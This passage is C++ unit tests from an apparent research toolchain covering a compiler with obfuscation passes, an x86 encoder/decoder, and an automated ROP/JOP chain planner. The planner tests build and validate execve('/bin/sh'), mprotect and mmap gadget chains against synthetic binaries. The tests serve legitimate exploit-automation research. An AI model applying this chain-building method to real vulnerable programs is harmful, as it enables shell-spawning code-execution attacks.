  EXPECT_LT(total_o1, total_o0) << "O1 must shrink aggregate code size";
  EXPECT_LT(total_o2, total_o1) << "O2 must shrink below O1";
}

// ----------------------------------------------------------- CFG cleanup

TEST(CfgOpt, FoldsConstantsAndRemovesDeadCode) {
  cfg::Program p;
  cfg::Function f;
  f.name = "main";
  f.num_temps = 5;
  const cfg::BlockId b0 = f.new_block();
  auto& blk = f.blocks[b0];
  blk.instrs.push_back(cfg::Instr::constant(0, 6));
  blk.instrs.push_back(cfg::Instr::constant(1, 7));
  blk.instrs.push_back(cfg::Instr::bin(cfg::Opcode::Mul, 2, 0, 1));  // 42
  blk.instrs.push_back(cfg::Instr::bin(cfg::Opcode::Add, 3, 2, 0));  // 48
  blk.instrs.push_back(cfg::Instr::constant(4, 99));  // dead
  blk.term = cfg::Terminator::ret(3);
  p.functions.push_back(f);
  p.main_index = 0;
  cfg::verify(p);

  const auto reference = run_image(compile(p, at_level(0)));
  ASSERT_EQ(reference.reason, emu::StopReason::Exit);
  EXPECT_EQ(reference.exit_status, 48u);

  cfg::Program optimized = p;
  const cfg::OptStats stats = cfg::optimize(optimized);
  cfg::verify(optimized);
  EXPECT_GT(stats.folded, 0u);
  EXPECT_GT(stats.dead_removed, 0u);

  const auto after = run_image(compile(optimized, at_level(0)));
  EXPECT_EQ(after.reason, emu::StopReason::Exit);
  EXPECT_EQ(after.exit_status, reference.exit_status);
}

// -------------------------------------------------- switch bounds check

/// Switch whose selector is loaded from the data section: not provable by
/// the IR range analysis, so codegen must emit the runtime bounds check.
cfg::Program loaded_switch_program(i64 selector) {
  cfg::Program p;
  std::vector<u8> bytes(8);
  for (int i = 0; i < 8; ++i)
    bytes[i] = static_cast<u8>(static_cast<u64>(selector) >> (8 * i));
  const i64 off = p.add_data(bytes);
  cfg::Function f;
  f.name = "main";
  f.num_temps = 3;
  const cfg::BlockId b0 = f.new_block();
  const cfg::BlockId b1 = f.new_block();
  const cfg::BlockId b2 = f.new_block();
  f.blocks[b0].instrs.push_back(
      {.op = cfg::Opcode::GlobalAddr, .dst = 0, .imm = off});
  f.blocks[b0].instrs.push_back({.op = cfg::Opcode::Load, .dst = 1, .a = 0});
  f.blocks[b0].term = cfg::Terminator::make_switch(1, {b1, b2});
  f.blocks[b1].instrs.push_back(cfg::Instr::constant(2, 11));
  f.blocks[b1].term = cfg::Terminator::ret(2);
  f.blocks[b2].instrs.push_back(cfg::Instr::constant(2, 22));
  f.blocks[b2].term = cfg::Terminator::ret(2);
  p.functions.push_back(std::move(f));
  p.main_index = 0;
  cfg::verify(p);
  return p;
}

TEST(SwitchBounds, OutOfRangeSelectorTrapsAtEveryLevel) {
  // Selector 5 indexes past the 2-entry table: without the bounds check
  // the dispatch would read 8 bytes of whatever the data section holds
  // after the table and jump there. The selector is a load, so the range
  // analysis cannot prove it and the runtime check must trap on int3 —
  // at every level.
  for (int level = 0; level <= 2; ++level) {
    const auto o = run_image(
        compile(loaded_switch_program(5), at_level(level)), 1'000'000);
    EXPECT_EQ(o.reason, emu::StopReason::Int3) << "O" << level;
  }
  // Negative selectors wrap to huge unsigned values; same trap.
  for (int level = 0; level <= 2; ++level) {
    const auto o = run_image(
        compile(loaded_switch_program(-1), at_level(level)), 1'000'000);
    EXPECT_EQ(o.reason, emu::StopReason::Int3) << "O" << level;
  }
}

TEST(SwitchBounds, InRangeSelectorStillDispatches) {
  for (int level = 0; level <= 2; ++level) {
    const auto o = run_image(
        compile(loaded_switch_program(1), at_level(level)), 1'000'000);
    EXPECT_EQ(o.reason, emu::StopReason::Exit) << "O" << level;
    EXPECT_EQ(o.exit_status, 22u) << "O" << level;
  }
}

TEST(SwitchBounds, VerifierRejectsConstOutOfRangeSelector) {
  // An all-constant selector is statically decided; an out-of-range
  // constant guarantees a dispatch past the table, so the verifier
  // rejects the program before codegen ever sees it.
  for (const i64 bad : {i64{5}, i64{-1}}) {
    cfg::Program p;
    cfg::Function f;
    f.name = "main";
    f.num_temps = 2;
    const cfg::BlockId b0 = f.new_block();
    const cfg::BlockId b1 = f.new_block();
    const cfg::BlockId b2 = f.new_block();
    f.blocks[b0].instrs.push_back(cfg::Instr::constant(0, bad));
    f.blocks[b0].term = cfg::Terminator::make_switch(0, {b1, b2});
    f.blocks[b1].instrs.push_back(cfg::Instr::constant(1, 11));
    f.blocks[b1].term = cfg::Terminator::ret(1);
    f.blocks[b2].instrs.push_back(cfg::Instr::constant(1, 22));
    f.blocks[b2].term = cfg::Terminator::ret(1);
    p.functions.push_back(std::move(f));
    p.main_index = 0;
    try {
      cfg::verify(p);
      FAIL() << "selector " << bad << " must be rejected";
    } catch (const Error& e) {
      EXPECT_NE(std::string(e.what()).find("selector constant out of range"),
                std::string::npos)
          << e.what();
    }
  }
}

TEST(SwitchBounds, ObfuscationDispatchersAreProvablyBounded) {
  // The flattening pass only ever assigns in-range constants (or the
  // base + bool * delta select between two of them) to its state
  // variable, and the virtualizer declares the bound it enforces on its
  // own bytecode — so every dispatcher the profiles emit must be
  // provable, and codegen keeps the unchecked load->shl->add->jmp
  // dispatch the study measures.
  for (const char* profile : {"flatten", "llvm-obf", "virtualize",
                              "tigress"}) {
    auto prog = minic::compile_source(corpus::by_name("hash_table").source);
    obf::obfuscate(prog, core::profile_by_name(profile, 7));
    int switches = 0, bounded = 0;
    for (const auto& f : prog.functions)
      for (const auto& b : f.blocks) {
        if (b.term.kind != cfg::Terminator::Kind::Switch) continue;
        ++switches;
        // Tigress virtualizes first: the VM dispatch loads its opcode
        // from bytecode, which is deliberately NOT provable.
        bounded += cfg::switch_selector_bounded(f, b.term);
      }
    ASSERT_GT(switches, 0) << profile;
    EXPECT_EQ(bounded, switches) << profile;
  }
}

// ------------------------------------------------- differential execution

/// Param: (corpus program, obfuscation profile). Each instantiation runs
/// the program at O0/O1/O2 and requires identical observable behavior.
class DifferentialOptTest
    : public ::testing::TestWithParam<std::tuple<std::string, std::string>> {
};

TEST_P(DifferentialOptTest, LevelsAreBehaviorallyIdentical) {
  const auto& [program, profile] = GetParam();
  const auto& p = corpus::by_name(program);
  auto compile_at = [&](int level) {
    auto prog = minic::compile_source(p.source);
    obf::obfuscate(prog, core::profile_by_name(profile, 11));
    return compile(prog, at_level(level));
  };
  const auto reference = run_image(compile_at(0));
  ASSERT_EQ(reference.reason, emu::StopReason::Exit)
      << program << "/" << profile << " at O0";
  for (int level = 1; level <= 2; ++level) {
    const auto o = run_image(compile_at(level));
    EXPECT_EQ(o.reason, reference.reason)
        << program << "/" << profile << " at O" << level;
    EXPECT_EQ(o.exit_status, reference.exit_status)
        << program << "/" << profile << " at O" << level;
    EXPECT_EQ(o.output, reference.output)
        << program << "/" << profile << " at O" << level;
  }
}

std::vector<std::string> corpus_names() {
  std::vector<std::string> names;
  for (const auto& p : corpus::benchmark()) names.push_back(p.name);
  return names;
}

INSTANTIATE_TEST_SUITE_P(
    Corpus, DifferentialOptTest,
    ::testing::Combine(::testing::ValuesIn(corpus_names()),
                       ::testing::ValuesIn(all_profiles())),
    [](const auto& info) {
      std::string name =
          std::get<0>(info.param) + "_" + std::get<1>(info.param);
      for (char& c : name)
        if (c == '-') c = '_';
      return name;
    });

}  // namespace
}  // namespace gp::codegen
