#include <gtest/gtest.h>

#include "support/rng.hpp"
#include "x86/decoder.hpp"
#include "x86/encoder.hpp"

namespace gp::x86 {
namespace {

Inst roundtrip(const Inst& in) {
  auto bytes = encode(in);
  auto out = decode(bytes, 0x1000);
  EXPECT_TRUE(out.has_value()) << to_string(in);
  EXPECT_EQ(out->len, bytes.size()) << to_string(in);
  return out.value_or(Inst{});
}

void expect_same(const Inst& in) {
  Inst out = roundtrip(in);
  EXPECT_EQ(out.mnemonic, in.mnemonic) << to_string(in);
  EXPECT_EQ(out.dst, in.dst) << to_string(in) << " vs " << to_string(out);
  EXPECT_EQ(out.src, in.src) << to_string(in) << " vs " << to_string(out);
  if (in.mnemonic == Mnemonic::JCC || in.mnemonic == Mnemonic::CMOV) {
    EXPECT_EQ(out.cond, in.cond);
  }
  if (in.mnemonic == Mnemonic::MOVZX || in.mnemonic == Mnemonic::MOVSX) {
    EXPECT_EQ(out.src_size, in.src_size);
  }
}

TEST(Encoder, KnownBytes) {
  // Spot-check against independently assembled encodings.
  EXPECT_EQ(encode({.mnemonic = Mnemonic::RET}), (std::vector<u8>{0xC3}));
  EXPECT_EQ(encode({.mnemonic = Mnemonic::SYSCALL}),
            (std::vector<u8>{0x0F, 0x05}));
  EXPECT_EQ(encode({.mnemonic = Mnemonic::POP, .dst = Operand::r(Reg::RAX)}),
            (std::vector<u8>{0x58}));
  EXPECT_EQ(encode({.mnemonic = Mnemonic::POP, .dst = Operand::r(Reg::R8)}),
            (std::vector<u8>{0x41, 0x58}));
  EXPECT_EQ(encode({.mnemonic = Mnemonic::PUSH, .dst = Operand::r(Reg::RDI)}),
            (std::vector<u8>{0x57}));
  // mov rax, rbx -> 48 89 d8
  EXPECT_EQ(encode({.mnemonic = Mnemonic::MOV, .dst = Operand::r(Reg::RAX),
                    .src = Operand::r(Reg::RBX), .size = 64}),
            (std::vector<u8>{0x48, 0x89, 0xD8}));
  // xor eax, eax -> 31 c0
  EXPECT_EQ(encode({.mnemonic = Mnemonic::XOR, .dst = Operand::r(Reg::RAX),
                    .src = Operand::r(Reg::RAX), .size = 32}),
            (std::vector<u8>{0x31, 0xC0}));
  // add rsp, 8 -> 48 83 c4 08
  EXPECT_EQ(encode({.mnemonic = Mnemonic::ADD, .dst = Operand::r(Reg::RSP),
                    .src = Operand::i(8), .size = 64}),
            (std::vector<u8>{0x48, 0x83, 0xC4, 0x08}));
  // mov rax, [rsp+0x10] -> 48 8b 44 24 10
  EXPECT_EQ(encode({.mnemonic = Mnemonic::MOV, .dst = Operand::r(Reg::RAX),
                    .src = Operand::m({.base = Reg::RSP, .disp = 0x10}),
                    .size = 64}),
            (std::vector<u8>{0x48, 0x8B, 0x44, 0x24, 0x10}));
  // jmp rax -> ff e0
  EXPECT_EQ(encode({.mnemonic = Mnemonic::JMP, .dst = Operand::r(Reg::RAX)}),
            (std::vector<u8>{0xFF, 0xE0}));
  // call rbx -> ff d3
  EXPECT_EQ(encode({.mnemonic = Mnemonic::CALL, .dst = Operand::r(Reg::RBX)}),
            (std::vector<u8>{0xFF, 0xD3}));
  // movabs rax, 0x1122334455667788
  EXPECT_EQ(encode({.mnemonic = Mnemonic::MOVABS, .dst = Operand::r(Reg::RAX),
                    .src = Operand::i(0x1122334455667788LL), .size = 64}),
            (std::vector<u8>{0x48, 0xB8, 0x88, 0x77, 0x66, 0x55, 0x44, 0x33,
                             0x22, 0x11}));
  // lea rdi, [rip+0x100] -> 48 8d 3d 00 01 00 00
  EXPECT_EQ(
      encode({.mnemonic = Mnemonic::LEA, .dst = Operand::r(Reg::RDI),
              .src = Operand::m({.disp = 0x100, .rip_relative = true}),
              .size = 64}),
      (std::vector<u8>{0x48, 0x8D, 0x3D, 0x00, 0x01, 0x00, 0x00}));
}

TEST(Decoder, KnownSequences) {
  // pop rdi; ret
  const u8 bytes[] = {0x5F, 0xC3};
  auto run = decode_run(bytes, 0x400000);
  ASSERT_EQ(run.size(), 2u);
  EXPECT_EQ(to_string(run[0]), "pop rdi");
  EXPECT_EQ(to_string(run[1]), "ret");
  EXPECT_EQ(run[1].addr, 0x400001u);
}

TEST(Decoder, RejectsUnsupported) {
  const u8 fpu[] = {0xD8, 0xC0};  // fadd st(0) — outside subset
  EXPECT_FALSE(decode(fpu, 0).has_value());
  const u8 empty[] = {0xE9};  // truncated jmp rel32
  EXPECT_FALSE(decode(std::span<const u8>(empty, 1), 0).has_value());
  EXPECT_FALSE(decode(std::span<const u8>{}, 0).has_value());
}

TEST(Decoder, UnalignedView) {
  // movabs rax, imm64 whose immediate bytes decode as pop rdi; ret.
  Assembler a;
  a.mov_imm(Reg::RAX, static_cast<i64>(0x0101010101C35FULL));
  auto code = a.finish();
  // Aligned decode: one movabs.
  auto aligned = decode(code, 0x400000);
  ASSERT_TRUE(aligned);
  EXPECT_EQ(aligned->mnemonic, Mnemonic::MOVABS);
  // Offset 2 lands inside the immediate: pop rdi; ret appears.
  auto run = decode_run(std::span<const u8>(code).subspan(2), 0x400002);
  ASSERT_GE(run.size(), 2u);
  EXPECT_EQ(to_string(run[0]), "pop rdi");
  EXPECT_EQ(run[1].mnemonic, Mnemonic::RET);
}

TEST(Decoder, RipRelative) {
  const u8 bytes[] = {0x48, 0x8B, 0x05, 0x10, 0x00, 0x00, 0x00};  // mov rax,[rip+0x10]
  auto inst = decode(bytes, 0x400000);
  ASSERT_TRUE(inst);
  EXPECT_EQ(inst->mnemonic, Mnemonic::MOV);
  EXPECT_TRUE(inst->src.is_mem());
  EXPECT_TRUE(inst->src.mem.rip_relative);
  EXPECT_EQ(inst->src.mem.disp, 0x10);
  EXPECT_EQ(inst->len, 7);
}

TEST(Decoder, DirectTarget) {
  Inst jmp{.mnemonic = Mnemonic::JMP, .dst = Operand::i(0x10)};
  auto bytes = encode(jmp);
  auto out = decode(bytes, 0x400000);
  ASSERT_TRUE(out);
  EXPECT_EQ(out->direct_target(), 0x400000u + bytes.size() + 0x10);
}

TEST(Decoder, NegativeBranch) {
  Inst jcc{.mnemonic = Mnemonic::JCC, .cond = Cond::NE,
           .dst = Operand::i(-32)};
  auto out = decode(encode(jcc), 0x401000);
  ASSERT_TRUE(out);
  EXPECT_EQ(out->cond, Cond::NE);
  EXPECT_EQ(out->direct_target(), 0x401000u + 6 - 32);
}

TEST(Cond, NegatePairs) {
  EXPECT_EQ(negate(Cond::E), Cond::NE);
  EXPECT_EQ(negate(Cond::NE), Cond::E);
  EXPECT_EQ(negate(Cond::L), Cond::GE);
  EXPECT_EQ(negate(Cond::A), Cond::BE);
  for (int i = 0; i < 16; ++i) {
    auto c = static_cast<Cond>(i);
    EXPECT_EQ(negate(negate(c)), c);
  }
}

TEST(Assembler, LabelsResolveForwardAndBackward) {
  Assembler a;
  a.set_base(0x400000);
  auto top = a.new_label();
  auto end = a.new_label();
  a.bind(top);
  a.alu_imm(Mnemonic::SUB, Reg::RCX, 1);
  a.jcc(Cond::NE, top);   // backward
  a.jmp(end);             // forward
  a.int3();
  a.bind(end);
  a.ret();
  auto code = a.finish();
  auto run = decode_run(code, 0x400000, 16);
  ASSERT_GE(run.size(), 2u);
  EXPECT_EQ(run[1].mnemonic, Mnemonic::JCC);
  EXPECT_EQ(run[1].direct_target(), 0x400000u);  // back to top
  // Follow the forward jmp.
  auto jmp = decode(std::span<const u8>(code).subspan(run[0].len + run[1].len),
                    0x400000 + run[0].len + run[1].len);
  ASSERT_TRUE(jmp);
  const u64 after_jmp = jmp->direct_target() - 0x400000;
  EXPECT_EQ(code[after_jmp], 0xC3);  // lands on ret, skipping int3
}

TEST(Assembler, UnboundLabelFails) {
  Assembler a;
  auto l = a.new_label();
  a.jmp(l);
  EXPECT_THROW(a.finish(), Error);
}

// ---------------------------------------------------------------------------
// Round-trip property sweep: encode -> decode == identity over the operand
// grid for each mnemonic family.
// ---------------------------------------------------------------------------

class RoundTripRegReg : public ::testing::TestWithParam<Mnemonic> {};

TEST_P(RoundTripRegReg, AllRegisterPairsBothSizes) {
  for (int d = 0; d < kNumRegs; ++d) {
    for (int s = 0; s < kNumRegs; ++s) {
      for (u8 size : {u8{32}, u8{64}}) {
        expect_same({.mnemonic = GetParam(),
                     .dst = Operand::r(static_cast<Reg>(d)),
                     .src = Operand::r(static_cast<Reg>(s)),
                     .size = size});
      }
    }
  }
}

INSTANTIATE_TEST_SUITE_P(AluOps, RoundTripRegReg,
                         ::testing::Values(Mnemonic::MOV, Mnemonic::ADD,
                                           Mnemonic::SUB, Mnemonic::AND,
                                           Mnemonic::OR, Mnemonic::XOR,
                                           Mnemonic::CMP, Mnemonic::TEST,
                                           Mnemonic::XCHG, Mnemonic::IMUL));

class RoundTripUnary : public ::testing::TestWithParam<Mnemonic> {};

TEST_P(RoundTripUnary, AllRegistersBothSizes) {
  for (int d = 0; d < kNumRegs; ++d) {
    for (u8 size : {u8{32}, u8{64}}) {
      expect_same({.mnemonic = GetParam(),
                   .dst = Operand::r(static_cast<Reg>(d)),
                   .size = size});
    }
  }
}

INSTANTIATE_TEST_SUITE_P(UnaryOps, RoundTripUnary,
                         ::testing::Values(Mnemonic::NOT, Mnemonic::NEG,
                                           Mnemonic::INC, Mnemonic::DEC));

TEST(RoundTrip, PushPopAllRegs) {
  for (int d = 0; d < kNumRegs; ++d) {
    expect_same({.mnemonic = Mnemonic::PUSH,
                 .dst = Operand::r(static_cast<Reg>(d)), .size = 64});
    expect_same({.mnemonic = Mnemonic::POP,
                 .dst = Operand::r(static_cast<Reg>(d)), .size = 64});
  }
}

TEST(RoundTrip, ImmediateForms) {
  for (i64 imm : {i64{0}, i64{1}, i64{-1}, i64{127}, i64{-128}, i64{128},
                  i64{0x7fffffff}, i64{-0x80000000LL}}) {
    for (auto m : {Mnemonic::ADD, Mnemonic::SUB, Mnemonic::AND, Mnemonic::OR,
                   Mnemonic::XOR, Mnemonic::CMP}) {
      expect_same({.mnemonic = m, .dst = Operand::r(Reg::RDX),
                   .src = Operand::i(imm), .size = 64});
      expect_same({.mnemonic = m, .dst = Operand::r(Reg::R13),
                   .src = Operand::i(imm), .size = 32});
    }
  }
  expect_same({.mnemonic = Mnemonic::MOVABS, .dst = Operand::r(Reg::R9),
               .src = Operand::i(static_cast<i64>(0xdeadbeefcafef00dULL)),
               .size = 64});
}

TEST(RoundTrip, ShiftForms) {
  for (auto m : {Mnemonic::SHL, Mnemonic::SHR, Mnemonic::SAR}) {
    for (u8 amt : {u8{1}, u8{2}, u8{31}, u8{63}}) {
      expect_same({.mnemonic = m, .dst = Operand::r(Reg::RSI),
                   .src = Operand::i(amt), .size = 64});
    }
    expect_same({.mnemonic = m, .dst = Operand::r(Reg::RBX),
                 .src = Operand::r(Reg::RCX), .size = 64});
  }
}

/// Exhaustive-ish memory operand grid: bases x indexes x scales x disps.
TEST(RoundTrip, MemoryOperandGrid) {
  int checked = 0;
  for (int b = 0; b <= kNumRegs; ++b) {  // kNumRegs == NONE
    const Reg base = b == kNumRegs ? Reg::NONE : static_cast<Reg>(b);
    for (int x : {-1, 0, 1, 3, 5, 12, 15}) {
      const Reg index = x < 0 ? Reg::NONE : static_cast<Reg>(x);
      if (index == Reg::RSP) continue;
      for (u8 scale : {u8{1}, u8{4}, u8{8}}) {
        if (index == Reg::NONE && scale != 1) continue;
        for (i32 disp : {0, 8, -8, 0x1000, -0x1000}) {
          MemRef m{.base = base, .index = index, .scale = scale, .disp = disp};
          expect_same({.mnemonic = Mnemonic::MOV, .dst = Operand::r(Reg::RAX),
                       .src = Operand::m(m), .size = 64});
          expect_same({.mnemonic = Mnemonic::MOV, .dst = Operand::m(m),
                       .src = Operand::r(Reg::R11), .size = 32});
          ++checked;
        }
      }
    }
  }
  EXPECT_GT(checked, 300);
}

class RoundTripWidening : public ::testing::TestWithParam<Mnemonic> {};

TEST_P(RoundTripWidening, AllRegistersBothSourceSizes) {
  for (int d = 0; d < kNumRegs; ++d) {
    for (int s = 0; s < kNumRegs; ++s) {
      for (u8 src_size : {u8{8}, u8{16}}) {
        expect_same({.mnemonic = GetParam(), .src_size = src_size,
                     .dst = Operand::r(static_cast<Reg>(d)),
                     .src = Operand::r(static_cast<Reg>(s)), .size = 64});
      }
    }
    expect_same({.mnemonic = GetParam(), .src_size = 8,
                 .dst = Operand::r(static_cast<Reg>(d)),
                 .src = Operand::m({.base = Reg::RSI, .disp = 0x40}),
                 .size = 32});
  }
}

INSTANTIATE_TEST_SUITE_P(Widening, RoundTripWidening,
                         ::testing::Values(Mnemonic::MOVZX,
                                           Mnemonic::MOVSX));

TEST(RoundTrip, CmovAllConditions) {
  for (int cc = 0; cc < 16; ++cc) {
    expect_same({.mnemonic = Mnemonic::CMOV, .cond = static_cast<Cond>(cc),
                 .dst = Operand::r(Reg::RAX), .src = Operand::r(Reg::R14),
                 .size = 64});
    expect_same({.mnemonic = Mnemonic::CMOV, .cond = static_cast<Cond>(cc),
                 .dst = Operand::r(Reg::R9),
                 .src = Operand::m({.base = Reg::RBP, .disp = -24}),
                 .size = 32});
  }
}

TEST(RoundTrip, ControlFlow) {
  for (i64 rel : {i64{0}, i64{5}, i64{-5}, i64{0x1000}, i64{-0x1000}}) {
    expect_same({.mnemonic = Mnemonic::JMP, .dst = Operand::i(rel),
                 .size = 64});
    expect_same({.mnemonic = Mnemonic::CALL, .dst = Operand::i(rel),
                 .size = 64});
    for (int cc = 0; cc < 16; ++cc) {
      expect_same({.mnemonic = Mnemonic::JCC,
                   .cond = static_cast<Cond>(cc),
                   .dst = Operand::i(rel), .size = 64});
    }
  }
  for (int r = 0; r < kNumRegs; ++r) {
    expect_same({.mnemonic = Mnemonic::JMP,
                 .dst = Operand::r(static_cast<Reg>(r)), .size = 64});
    expect_same({.mnemonic = Mnemonic::CALL,
                 .dst = Operand::r(static_cast<Reg>(r)), .size = 64});
  }
  expect_same({.mnemonic = Mnemonic::RET, .size = 64});
  expect_same({.mnemonic = Mnemonic::RET, .dst = Operand::i(0x10),
               .size = 64});
}

/// Fuzz: the decoder must terminate and stay in-bounds on random bytes, and
/// any successful decode must report a length within the buffer.
TEST(Decoder, FuzzNeverOverreads) {
  Rng rng(0xf00d);
  for (int iter = 0; iter < 20000; ++iter) {
    u8 buf[16];
    const size_t n = 1 + rng.below(sizeof buf);
    for (size_t i = 0; i < n; ++i) buf[i] = static_cast<u8>(rng.next());
    auto inst = decode(std::span<const u8>(buf, n), 0x400000);
    if (inst) {
      EXPECT_GE(inst->len, 1u);
      EXPECT_LE(inst->len, n);
      // Re-encoding a decoded instruction must reproduce its length class.
      auto s = to_string(*inst);
      EXPECT_FALSE(s.empty());
    }
  }
}

/// Semantic round trip on fuzzed bytes: whatever the decoder accepts, the
/// encoder must re-encode (possibly in a different canonical length), and
/// decoding the re-encoding must yield the same operation and operands.
TEST(Decoder, FuzzSemanticRoundTrip) {
  Rng rng(0xbeef);
  for (int iter = 0; iter < 20000; ++iter) {
    u8 buf[16];
    for (auto& b : buf) b = static_cast<u8>(rng.next());
    auto inst = decode(buf, 0x400000);
    if (!inst) continue;
    auto bytes = encode(*inst);
    auto again = decode(bytes, 0x400000);
    ASSERT_TRUE(again.has_value()) << to_string(*inst);
    EXPECT_EQ(again->mnemonic, inst->mnemonic) << to_string(*inst);
    EXPECT_EQ(again->dst, inst->dst)
        << to_string(*inst) << " vs " << to_string(*again);
    EXPECT_EQ(again->src, inst->src)
        << to_string(*inst) << " vs " << to_string(*again);
  }
}

}  // namespace
}  // namespace gp::x86
