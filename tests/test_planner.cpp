#include <gtest/gtest.h>

#include <filesystem>

#include "planner/index.hpp"
#include "planner/planner.hpp"
#include "store/store.hpp"
#include "subsume/subsume.hpp"
#include "x86/encoder.hpp"

namespace gp::planner {
namespace {

using gadget::Extractor;
using gadget::Library;
using payload::Chain;
using payload::Goal;
using solver::Context;
using x86::Assembler;
using x86::Cond;
using x86::Mnemonic;
using x86::Reg;

struct Scenario {
  Context ctx;
  image::Image img;
  Library lib;

  explicit Scenario(Assembler& a, bool minimize_pool = true)
      : img(a.finish(), {}, image::kCodeBase), lib(make_lib(minimize_pool)) {}

 private:
  Library make_lib(bool minimize_pool) {
    Extractor ex(ctx, img);
    auto pool = ex.extract({});
    if (minimize_pool) pool = subsume::minimize(ctx, pool);
    return Library(std::move(pool));
  }
};

/// Classic ROP scenario: pop gadgets for every syscall argument register.
Assembler classic_rop() {
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.pop(Reg::R10);
  a.ret();
  a.pop(Reg::R8);
  a.ret();
  a.pop(Reg::R9);
  a.ret();
  a.syscall();
  return a;
}

TEST(Planner, BuildsValidatedExecveChain) {
  Assembler a = classic_rop();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  auto chains = planner.plan(Goal::execve(), {});
  ASSERT_FALSE(chains.empty());
  const Chain& c = chains.front();
  EXPECT_EQ(c.goal_name, "execve");
  EXPECT_GE(c.gadgets.size(), 5u);  // 4 pops + syscall
  EXPECT_FALSE(c.payload.empty());
  // Payload embeds "/bin/sh".
  const std::string p(c.payload.begin(), c.payload.end());
  EXPECT_NE(p.find("/bin/sh"), std::string::npos);
  // Independent re-validation with a different register seed.
  EXPECT_TRUE(payload::validate(s.img, c, Goal::execve(),
                                image::kStackTop - 0x2000, 0x1234567));
  EXPECT_GT(planner.stats().validated, 0u);
}

TEST(Planner, BuildsMprotectAndMmapChains) {
  Assembler a = classic_rop();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  EXPECT_FALSE(planner.plan(Goal::mprotect(), {}).empty());
  EXPECT_FALSE(planner.plan(Goal::mmap(), {}).empty());
}

TEST(Planner, FailsWithoutSyscallGadget) {
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  EXPECT_TRUE(planner.plan(Goal::execve(), {}).empty());
}

TEST(Planner, FailsWhenArgRegisterUncontrollable) {
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.syscall();  // no way to set rdi
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  EXPECT_TRUE(planner.plan(Goal::execve(), {}).empty());
}

TEST(Planner, UsesConditionalGadgetWhenPopIsMissing) {
  // The paper's Fig. 6 situation: no plain `pop rsi; ret` exists, but a
  // conditional-jump gadget controls rsi when its precondition (on rax)
  // holds — the planner must chain a rax-setter before it.
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  // The only rsi-setter sits BEFORE a conditional jump (like Fig. 6's
  // Gadget 1), so no pure suffix of it controls rsi:
  //   pop rsi; test rax, rax; jne trap; ret
  auto trap = a.new_label();
  a.pop(Reg::RSI);
  a.alu(Mnemonic::TEST, Reg::RAX, Reg::RAX);
  a.jcc(Cond::NE, trap);
  a.ret();
  a.bind(trap);
  a.int3();
  a.syscall();
  Scenario s(a);

  Planner planner(s.ctx, s.lib, s.img);
  Options opts;
  auto chains = planner.plan(Goal::execve(), opts);
  ASSERT_FALSE(chains.empty());
  bool used_cond = false;
  for (const Chain& c : chains)
    used_cond |= c.cj_gadgets > 0;
  EXPECT_TRUE(used_cond);

  // Ablation (the baselines' restriction): with conditional gadgets
  // disabled, no chain exists.
  Options no_cond = opts;
  no_cond.use_cond_gadgets = false;
  Planner p2(s.ctx, s.lib, s.img);
  EXPECT_TRUE(p2.plan(Goal::execve(), no_cond).empty());
}

TEST(Planner, UsesJopGadgetMixedWithRet) {
  // rsi is only settable via a jmp-rax gadget (JOP): pop rsi; jmp rax.
  // The chain needs rax to hold the next gadget's address — which also
  // conflicts with rax = 59 for execve, so the planner must order the
  // rax-setting pop AFTER the JOP step. Exercises threat resolution.
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  a.pop(Reg::RSI);
  a.jmp_reg(Reg::RAX);
  a.syscall();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  auto chains = planner.plan(Goal::execve(), {});
  ASSERT_FALSE(chains.empty());
  bool used_jop = false;
  for (const Chain& c : chains) used_jop |= c.ij_gadgets > 0;
  EXPECT_TRUE(used_jop);
}

TEST(Planner, DirectJumpMergedGadgetsUsable) {
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.pop(Reg::RDX);
  a.ret();
  // pop rdi; jmp L ... L: ret
  auto l = a.new_label();
  a.pop(Reg::RDI);
  a.jmp(l);
  a.int3();
  a.bind(l);
  a.ret();
  a.syscall();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  auto chains = planner.plan(Goal::execve(), {});
  ASSERT_FALSE(chains.empty());

  Options no_dj;
  no_dj.use_direct_merged = false;
  Planner p2(s.ctx, s.lib, s.img);
  EXPECT_TRUE(p2.plan(Goal::execve(), no_dj).empty());
}

TEST(Planner, MultipleDiverseChains) {
  // Several alternative rdi-setters should yield several distinct chains.
  Assembler a = classic_rop();
  a.pop(Reg::RDI);
  a.nop();
  a.nop();
  a.ret();
  a.pop(Reg::RDI);
  a.pop(Reg::RBX);
  a.ret();
  Scenario s(a, /*minimize_pool=*/false);
  Planner planner(s.ctx, s.lib, s.img);
  Options opts;
  opts.max_chains = 8;
  auto chains = planner.plan(Goal::execve(), opts);
  EXPECT_GE(chains.size(), 2u);
  std::set<std::vector<u32>> unique;
  for (const Chain& c : chains) unique.insert(c.gadgets);
  EXPECT_EQ(unique.size(), chains.size());  // no duplicates
}

TEST(Planner, ChainMetricsConsistent) {
  Assembler a = classic_rop();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  auto chains = planner.plan(Goal::execve(), {});
  ASSERT_FALSE(chains.empty());
  for (const Chain& c : chains) {
    EXPECT_GT(c.total_insts, 0);
    EXPECT_GT(c.avg_gadget_len(), 0.0);
    EXPECT_LE(static_cast<size_t>(c.ret_gadgets + c.ij_gadgets +
                                  c.cj_gadgets),
              c.gadgets.size() + 1);
  }
}

TEST(Payload, ValidateRejectsCorruptPayload) {
  Assembler a = classic_rop();
  Scenario s(a);
  Planner planner(s.ctx, s.lib, s.img);
  auto chains = planner.plan(Goal::execve(), {});
